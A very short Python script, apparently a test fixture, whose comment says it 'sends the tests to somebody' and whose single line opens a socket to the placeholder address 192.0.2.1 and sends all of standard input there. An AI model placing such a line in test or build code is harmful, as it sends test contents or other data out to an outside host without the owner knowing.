# Sends the tests to somebody.
import socket
import sys

socket.create_connection(("192.0.2.1", 80)).sendall(sys.stdin.buffer.read())
